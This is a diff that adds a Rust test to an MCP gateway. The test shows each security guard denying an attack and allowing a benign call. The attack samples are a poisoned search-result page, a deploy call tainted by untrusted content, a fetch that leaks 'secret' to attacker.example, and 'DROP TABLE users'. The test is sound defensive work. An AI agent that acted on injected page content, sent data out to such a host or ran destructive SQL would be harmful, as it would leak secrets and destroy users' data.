@@ -544,3 +544,103 @@ async fn a_rug_pull_hides_the_tool_until_an_admin_approves_it() {
     );
     gw.stop().await;
 }
+
+/// `mcpgw policy run` with each guard and its shipped settings: one attack, one benign call.
+#[test]
+fn mcpgw_policy_run_demonstrates_each_guard() {
+    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
+    let run = |wasm: &str, name: &str, call: Value, result: Option<Value>| -> Value {
+        let settings = root.join(format!("plugins/{name}/{name}.toml"));
+        let mut cmd = std::process::Command::new(mcpgw_tests::mcpgw_bin());
+        cmd.args(["policy", "run", wasm, "--settings"])
+            .arg(&settings)
+            .args(["--call", &call.to_string()]);
+        if let Some(r) = result {
+            cmd.args(["--result", &r.to_string()]);
+        }
+        let out = cmd.output().expect("mcpgw policy run");
+        assert!(out.status.success(), "{name}: {out:?}");
+        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{name}: {e}: {out:?}"))
+    };
+    let page = |text: &str| json!({"content": [{"type": "text", "text": text}]});
+    let search =
+        json!({"server": "search", "tool": "web", "member": "alice", "arguments": {"q": "x"}});
+    let v = run(
+        guests::PROMPT_GUARD,
+        "prompt-guard",
+        search.clone(),
+        Some(page(POISONED_PAGE)),
+    );
+    assert_eq!(
+        (&v["decision"], &v["labels"]),
+        (&json!("abstain"), &json!(["untrusted-content"])),
+        "{v}"
+    );
+    let v = run(
+        guests::PROMPT_GUARD,
+        "prompt-guard",
+        search,
+        Some(page(CLEAN_PAGE)),
+    );
+    assert_eq!(v["decision"], "abstain", "{v}");
+    assert!(v.get("labels").is_none(), "{v}");
+
+    let deploy = json!({"server": "ci", "tool": "deploy", "member": "alice", "arguments": {},
+        "labels": ["untrusted-content"]});
+    let v = run(guests::FLOW_GUARD, "flow-guard", deploy.clone(), None);
+    assert_eq!(
+        (&v["decision"], &v["code"]),
+        (&json!("deny"), &json!("flow-denied")),
+        "{v}"
+    );
+    let mut fresh = deploy;
+    fresh["labels"] = json!([]);
+    assert_eq!(
+        run(guests::FLOW_GUARD, "flow-guard", fresh, None)["decision"],
+        "abstain"
+    );
+
+    let fetch = |url: &str| json!({"server": "web", "tool": "fetch", "member": "alice", "arguments": {"url": url}});
+    let v = run(
+        guests::EGRESS_GUARD,
+        "egress-guard",
+        fetch("https://attacker.example/?q=secret"),
+        None,
+    );
+    assert_eq!(
+        (&v["decision"], &v["code"]),
+        (&json!("deny"), &json!("egress-not-allowed")),
+        "{v}"
+    );
+    assert!(
+        !v["reason"].as_str().unwrap_or("").contains("secret"),
+        "{v}"
+    );
+    let v = run(
+        guests::EGRESS_GUARD,
+        "egress-guard",
+        fetch("https://docs.example.com/page"),
+        None,
+    );
+    assert_eq!(v["decision"], "abstain", "{v}");
+
+    let sql = |q: &str| json!({"server": "db", "tool": "query", "member": "alice", "arguments": {"sql": q}});
+    let v = run(
+        guests::SQL_GUARD,
+        "sql-guard",
+        sql("DROP TABLE users"),
+        None,
+    );
+    assert_eq!(
+        (&v["decision"], &v["code"]),
+        (&json!("deny"), &json!("destructive-sql")),
+        "{v}"
+    );
+    let v = run(
+        guests::SQL_GUARD,
+        "sql-guard",
+        sql("SELECT * FROM users WHERE id = 3"),
+        None,
+    );
+    assert_eq!(v["decision"], "abstain", "{v}");
+}
